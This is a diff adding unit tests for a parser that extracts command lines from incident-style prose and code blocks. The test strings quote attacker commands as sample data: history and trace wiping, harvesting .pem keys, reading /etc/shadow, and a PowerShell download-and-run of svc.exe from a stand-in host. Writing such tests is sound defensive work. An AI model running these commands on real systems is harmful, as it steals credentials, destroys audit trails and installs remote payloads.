@@ -407,4 +407,39 @@ describe('extractCmdlines', () => {
     expect(values('The observed command was **nohup /bin/sh -c /tmp/x 2>&1** , as logged.')).toEqual(['/bin/sh -c /tmp/x 2>&1']);
     expect(values('They wiped it with shred -u /var/tmp/* to hide traces.')).toEqual(['shred -u /var/tmp/*']);
   });
+
+  it('reads rm, find, cat, touch and ln quoted in a sentence when their arguments are a command line, not prose', () => {
+    expect(values('To hide its traces the dropper runs rm -rf /var/tmp/.cache-x before it exits.')).toEqual(['rm -rf /var/tmp/.cache-x']);
+    expect(values('It then deleted the history with rm ~/.bash_history and logged out.')).toEqual(['rm ~/.bash_history']);
+    expect(values('The operator ran find / -name "*.pem" -exec cat {} \\; to collect keys.')).toEqual([
+      'find / -name "*.pem" -exec cat {} \\;',
+    ]);
+    expect(values('Next came cat /etc/shadow and ln -s /dev/null ~/.bash_history to stop logging.')).toEqual([
+      'cat /etc/shadow',
+      'ln -s /dev/null ~/.bash_history',
+    ]);
+    // The same words as prose: a path after "find" with no test, a bare "rm -rf", an animal.
+    expect(values('You will find /etc/passwd changed on every host.')).toEqual([]);
+    expect(values('An rm -rf of the whole disk would have been noticed.')).toEqual([]);
+    expect(values('Our cat /dog ratio is a joke, and we find the files and rm them by hand.')).toEqual([]);
+  });
+
+  it('reads a PowerShell script in one double-quoted string over several lines, blank lines included, as one command', () => {
+    const text = [
+      '```',
+      'powershell.exe -NoProfile -Command "',
+      "$p = 'C:\\ProgramData\\svc.exe'",
+      '',
+      '# fetch the payload',
+      'Invoke-WebRequest http://drop-host.site/svc.exe -OutFile $p',
+      'Start-Process $p',
+      '"',
+      'whoami /all',
+      '```',
+    ].join('\n');
+    const items = extractCmdlines(parseDocument(text)).map((i) => i.value);
+    expect(items).toEqual([text.split('\n').slice(1, 8).join('\n'), 'whoami /all']);
+    // A quote left open to the end of the block does not swallow the commands after a blank line.
+    expect(values('```\necho "start\n\nwhoami /all\nnet user\n```')).toEqual(['echo "start', 'whoami /all', 'net user']);
+  });
 });
